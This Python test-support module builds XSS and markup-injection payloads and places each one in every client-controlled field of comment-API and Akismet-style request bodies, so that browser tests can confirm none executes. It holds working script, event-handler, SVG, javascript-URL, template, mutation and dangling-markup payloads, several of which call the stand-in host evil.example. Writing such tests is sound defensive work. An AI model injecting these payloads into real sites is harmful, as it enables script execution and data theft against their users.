"""Hostile texts for every field that a client controls, and request bodies that carry each of them in each field.

Every script among them sets `window.__pwned`, calls `alert('pwned')`, or asks for `/pwned-…` or
`https://evil.example/pwned` when it runs, so that a browser can assert that none did.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final
from zlib import crc32

from moderation.judging.comment import LIMITS
from tests.support.factories import PERMALINK
from tests.support.hostile import languages, letters, places, scripts

HOME: Final = "https://blog.example"
IP_CODE_POINTS: Final = 64
EVERY_NTH_IP: Final = 10
_AT: Final = "@evil.example"
_ZONE: Final = "fe80::1%"
_SHORT: Final = {  # what stands in for a payload that would not run any more when cut
    "script": "<script>window.__pwned=1</script>",
    "handler": "<img src=x onerror=window.__pwned=1>",
    "svg": "<svg onload=window.__pwned=1>",
    "url": "javascript:window.__pwned=1",
    "breakout": "'\"></title></textarea><svg onload=window.__pwned=1>",
    "htmx": "<p hx-get=/pwned-0 hx-trigger=load>x</p>",
    "template": "{{7*7}}${window.__pwned=1}",
    "style": "<p style=background:url(//evil.example/pwned)>x</p>",
    "mutation": "<noscript><p title='</noscript><svg onload=__pwned=1>'>",
    "element": "<iframe src=javascript:parent.__pwned=1></iframe>",
    "dangling": "<img src='//evil.example/pwned?",
}
_PLACES: Final = (
    "https://evil.example/?pwned={}",
    "https://evil.example/pwned#{}",
    "https://{}@evil.example/pwned",
    "https://{}.evil.example/pwned",
    "https://evil.example/pwned/{}",
)


@dataclass(frozen=True)
class Payload:
    """A hostile text, the kind of harm it tries, and a name that is unique among all of them."""

    name: str
    kind: str
    text: str


SCRIPT_KINDS: Final = frozenset(_SHORT)
HUGE_NAME: Final = Payload("size: a megabyte", "size", _SHORT["handler"].ljust(letters.MEGABYTE, "b"))
PAYLOADS: Final[tuple[Payload, ...]] = (
    *(
        Payload(f"{kind}: {name}", kind, text)
        for module in (scripts, places, letters, languages)
        for kind, texts in module.KINDS.items()
        for name, text in texts.items()
    ),
    HUGE_NAME,
)


def fits(payload: Payload, limit: int) -> str:
    """Returns the text where it fits a limit in code points; else a shorter one of its kind, or its beginning."""
    if len(payload.text) <= limit:
        return payload.text
    short = _SHORT.get(payload.kind, "")
    return short if short and len(short) <= limit else payload.text[:limit]


def url_of(payload: Payload, limit: int = LIMITS["url"]) -> str:
    """Returns the text for a URL's field: as it is where it is an address, else in some part of one, unescaped."""
    if payload.kind in {"url", "host"}:
        return fits(payload, limit)
    place = _PLACES[crc32(payload.name.encode()) % len(_PLACES)]
    return place.format(fits(payload, limit - len(place)))


def native_bodies() -> Iterator[dict[str, Any]]:
    """Yields bodies for `POST /api/v1/comments`: each payload in each field, refused only where the door must refuse.

    An address takes no text but a zone, so few bodies carry a bare payload there: those are refused.
    """
    for payload in PAYLOADS:
        yield {"permalink": fits(payload, LIMITS["permalink"]), **_spoken(payload)}
        yield {**_spoken(payload), **_addressed(payload)}
        yield {**_spoken(payload), **_labelled(payload)}
    for payload in PAYLOADS[::EVERY_NTH_IP]:
        yield {**_spoken(payload), "author": {"name": "Ann", "ip": payload.text[:IP_CODE_POINTS]}}


def akismet_forms(key: str) -> Iterator[dict[str, str]]:
    """Yields forms for a comment-check with a site's key: each payload in each field of the dialect."""
    for payload in PAYLOADS:
        known = {"api_key": key, "blog": HOME, "user_ip": "192.0.2.7", "permalink": PERMALINK}
        said = {"comment_author": fits(payload, LIMITS["name"]), "comment_content": fits(payload, LIMITS["content"])}
        yield known | said | _dialect_addresses(payload)
        yield known | said | _dialect_labels(payload)


def _spoken(payload: Payload) -> dict[str, Any]:
    """The fields that people read: the text, the name, the address, the page's title."""
    author = {"name": fits(payload, LIMITS["name"]), "url": fits(payload, LIMITS["url"]), "ip": "192.0.2.7"}
    content, title = fits(payload, LIMITS["content"]), fits(payload, LIMITS["url"])
    return {"permalink": PERMALINK, "content": content, "author": author, "context": {"title": title}}


def _addressed(payload: Payload) -> dict[str, Any]:
    """The fields that name something: two addresses, a mailbox, the blog's own id."""
    author = {
        "name": fits(payload, LIMITS["name"]),
        "url": url_of(payload),
        "email": fits(payload, LIMITS["email"] - len(_AT)) + _AT,
    }
    return {
        "permalink": url_of(payload, LIMITS["permalink"]),
        "external_id": fits(payload, LIMITS["external_id"]),
        "author": author,
    }


def _labelled(payload: Payload) -> dict[str, Any]:
    """The fields that take one word, and those that describe the page or the browser."""
    author = {
        "name": fits(payload, LIMITS["name"]),
        "email": fits(payload, LIMITS["email"]),
        "ip": _ip(payload),
        "user_agent": fits(payload, LIMITS["url"]),
        "role": fits(payload, LIMITS["role"]),
    }
    text = fits(payload, LIMITS["url"])
    return {
        "type": fits(payload, LIMITS["type"]),
        "language": fits(payload, LIMITS["language"]),
        "author": author,
        "context": {"title": text, "tags": [text, text[:20]], "excerpt": text},
    }


def _ip(payload: Payload) -> str:
    """An IPv6 address whose zone carries what may stand in one."""
    zone = fits(payload, IP_CODE_POINTS - len(_ZONE)).translate({ord(letter): None for letter in "%/\x00"})
    return _ZONE + (zone.strip() or "pwned")


def _dialect_addresses(payload: Payload) -> dict[str, str]:
    return {
        "blog": f"{HOME}/{fits(payload, LIMITS['url'])}",
        "user_agent": fits(payload, LIMITS["url"]),
        "referrer": url_of(payload),
        "permalink": url_of(payload, LIMITS["permalink"]),
        "comment_author_url": url_of(payload),
        "comment_author_email": fits(payload, LIMITS["email"] - len(_AT)) + _AT,
        "comment_ID": fits(payload, LIMITS["external_id"]),
        "comment_post_ID": fits(payload, LIMITS["external_id"]),
    }


def _dialect_labels(payload: Payload) -> dict[str, str]:
    text = fits(payload, LIMITS["url"])
    return {
        "user_ip": _ip(payload),
        "permalink": fits(payload, LIMITS["permalink"]),
        "comment_author_url": text,
        "comment_author_email": fits(payload, LIMITS["email"]),
        "comment_type": fits(payload, LIMITS["type"]),
        "comment_date_gmt": fits(payload, LIMITS["type"]),
        "comment_parent": fits(payload, LIMITS["external_id"]),
        "comment_context[]": text,
        "blog_lang": fits(payload, LIMITS["language"]),
        "blog_charset": fits(payload, LIMITS["language"]),
        "user_role": fits(payload, LIMITS["role"]),
        "recheck_reason": text,
        "reporter": text,
        "guid": text,
    }
